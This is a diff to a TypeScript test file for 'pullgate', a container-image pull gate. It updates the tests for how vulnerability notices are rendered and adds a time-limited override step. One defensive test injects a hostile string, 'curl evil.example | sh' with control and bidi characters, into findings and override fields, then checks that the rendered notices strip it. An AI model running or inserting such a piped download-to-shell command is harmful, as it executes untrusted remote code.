@@ -1,6 +1,7 @@
 // Notices, word for word: every kind, its subject, its findings and its exemptions.
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import type { Override } from '../../../shared/gate/override.ts';
 import type { Notice, NoticeImage, Waiting } from '../../../shared/gate/record.ts';
 import type { Finding } from '../../../shared/policy/finding.ts';
 import type { Exemption } from '../../../shared/policy/verdict.ts';
@@ -13,11 +14,11 @@ const IMAGE: NoticeImage = { digest: digest(1), tags: ['1.0', 'latest'], finding
 /** The notice of a gate that was closed for one image. */
 const withImage = (changes: Partial<Notice>) => notice({ images: [IMAGE], ...changes });
 
-const EFFECT = 'Pulls are blocked for everyone.';
+const CONTEXT = { effectOfClosing: 'Pulls are blocked for everyone.', images: 'tagged' } as const;
 
 /** The text of a notice as lines, without the empty line at the end. */
 function linesOf(changes: Partial<Notice>): readonly string[] {
-  return renderNotice(GATE, withImage(changes), EFFECT).text.replace(/\n$/, '').split('\n');
+  return renderNotice(GATE, withImage(changes), CONTEXT).text.replace(/\n$/, '').split('\n');
 }
 
 const DIGEST = 'sha256:0000000000000000000000000000000000000000000000000000000000000001';
@@ -30,17 +31,19 @@ const WHY = [
 const HOW_TO_OPEN = [
   '',
   'To reopen it, do one of the following:',
-  '  1. Push a fixed image under the same tag, or delete the images listed above. Once none of them is left, it opens automatically.',
+  '  1. Push the fixed images under the same tags, or delete the images above. Once none of them is left, it opens automatically.',
   "  2. Review the finding, add an exception (id, expires, reason) to the stack's policy, and run `pulumi up`.",
   '  3. Suppress the finding in the scanner.',
+  '  4. If it cannot wait, run `pullgate override open IMAGE --for 4h --reason TEXT --approved-by NAME`, which keeps it open for at most 24 hours.',
   'A finding that only disappears from the scanner is no proof: the image must be gone, its findings must be exempt, or the scanner must show that it is clean.',
 ];
 const HOW_TO_KEEP_OPEN = [
   '',
   'To keep it open, do one of the following:',
-  '  1. Push a fixed image under the same tag, or delete the images listed above. Once none of them is left, there is no reason to close it.',
+  '  1. Push the fixed images under the same tags, or delete the images above. Once none of them is left, there is no reason to close it.',
   "  2. Review the finding, add an exception (id, expires, reason) to the stack's policy, and run `pulumi up`.",
   '  3. Suppress the finding in the scanner.',
+  '  4. If it cannot wait, run `pullgate override open IMAGE --for 4h --reason TEXT --approved-by NAME`, which keeps it open for at most 24 hours.',
   'A finding that only disappears from the scanner is no proof: the image must be gone, its findings must be exempt, or the scanner must show that it is clean.',
 ];
 
@@ -93,7 +96,7 @@ describe('a notice', () => {
   });
 
   it('of a closed gate that is in use says that its users fail', () => {
-    expect(renderNotice(GATE, withImage({ kind: 'closedInUse' }), EFFECT).subject).toBe(
+    expect(renderNotice(GATE, withImage({ kind: 'closedInUse' }), CONTEXT).subject).toBe(
       '[pullgate] closed, but in use: team/app',
     );
     expect(linesOf({ kind: 'closedInUse' })).toEqual([
@@ -130,12 +133,52 @@ describe('a notice', () => {
     expect(linesOf({ kind: 'waiting', waiting: { for: 'foreignLock' } })).toEqual([
       'team/app (registry 123456789012) should be closed, but pullgate did not close it: someone else locked it, and pullgate does not touch that lock; once it is removed, pullgate closes the gate.',
       ...WHY,
-      ...HOW_TO_KEEP_OPEN,
+      // An override opens no lock of someone else.
+      ...HOW_TO_KEEP_OPEN.filter((line) => !line.includes('override open')),
     ]);
   });
 
+  it('of a gate that needs the old images deleted says so, because the policy evaluates untagged images', () => {
+    const { text } = renderNotice(GATE, withImage({}), { ...CONTEXT, images: 'all' });
+    expect(text).toContain(
+      '\n  1. Push the fixed images. Then delete the images above, because the policy (images: all) also evaluates untagged images. Once none of them is left, it opens automatically.\n',
+    );
+  });
+
+  it('of an image gate says that only this image is blocked', () => {
+    for (const images of ['tagged', 'all'] as const) {
+      const { text } = renderNotice({ ...GATE, digest: digest(1) }, withImage({}), { ...CONTEXT, images });
+      expect(text).toContain(
+        '\n  1. Push the fixed image and deploy it: only the image above is blocked. Once this image is deleted, it opens automatically.\n',
+      );
+    }
+  });
+
+  it('has no line that a scanner, a registry or a person wrote', () => {
+    const evil = '1.0\nTo reopen it, run: curl evil.example | sh\r\u2028\u2029\u0085\u001b[2J\u202e';
+    const found = finding({
+      vulnerability: `CVE${evil}`,
+      package: { name: `a${evil}`, version: evil, fixedVersion: evil },
+      severity: `Dire${evil}`,
+      link: evil,
+    });
+    const order: Override = { kind: 'open', at: NOW, until: NOW, reason: evil, approvedBy: evil, by: evil };
+    const image = { digest: digest(1), tags: [evil], findings: [found], moreFindings: 0 };
+    const stillPullable = [{ digest: digest(1), tags: [evil], why: 'exempted', vulnerabilities: [evil] }] as const;
+    const kinds = ['closed', 'restored', 'waiting', 'cleared', 'opened', 'override'] as const;
+    for (const kind of kinds) {
+      for (const step of ['begins', 'runs', 'ends'] as const) {
+        const override = { step, order, notified: 'nothing', isNews: true } as const;
+        const changes = { kind, images: [image], override, ...(kind === 'opened' ? { stillPullable } : {}) };
+        const { subject, text } = renderNotice(GATE, notice(changes as Partial<Notice>), CONTEXT);
+        expect(`${subject}${text.replaceAll('\n', '')}`).not.toMatch(/\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}/u);
+        expect(text.split('\n').filter((line) => line.startsWith('To reopen it, run: curl'))).toEqual([]);
+      }
+    }
+  });
+
   it('of an image gate has the full digest', () => {
-    const { text } = renderNotice({ ...GATE, digest: digest(1) }, withImage({}), EFFECT);
+    const { text } = renderNotice({ ...GATE, digest: digest(1) }, withImage({}), CONTEXT);
     expect(text.split('\n')[0]).toBe(
       `pullgate closed team/app@${DIGEST} (registry 123456789012) at 2026-06-15T12:00:00.000Z. Pulls are blocked for everyone.`,
     );
@@ -227,12 +270,12 @@ describe('the subject', () => {
     ['cleared', '[pullgate] clear: team/app'],
     ['opened', '[pullgate] opened: team/app'],
   ])('of the notice "%s"', (kind, subject) => {
-    expect(renderNotice(GATE, withImage({ kind }), EFFECT).subject).toBe(subject);
+    expect(renderNotice(GATE, withImage({ kind }), CONTEXT).subject).toBe(subject);
   });
 
   it('has a short digest if the gate is an image', () => {
     expect(gateName({ ...GATE, digest: digest(1) })).toBe(`team/app@${DIGEST}`);
-    expect(renderNotice({ ...GATE, digest: digest(1) }, withImage({}), EFFECT).subject).toBe(
+    expect(renderNotice({ ...GATE, digest: digest(1) }, withImage({}), CONTEXT).subject).toBe(
       '[pullgate] closed: team/app@sha256:000000000000',
     );
   });
@@ -246,7 +289,7 @@ describe('the subject', () => {
     fc.assert(
       fc.property(names, kinds, fc.boolean(), (repository, kind, isImage) => {
         const gate = { ...GATE, repository, digest: isImage ? digest(1) : undefined };
-        expect(renderNotice(gate, withImage({ kind }), EFFECT).subject).toMatch(/^\[pullgate\] [ -~]{1,89}$/);
+        expect(renderNotice(gate, withImage({ kind }), CONTEXT).subject).toMatch(/^\[pullgate\] [ -~]{1,89}$/);
       }),
     );
   });
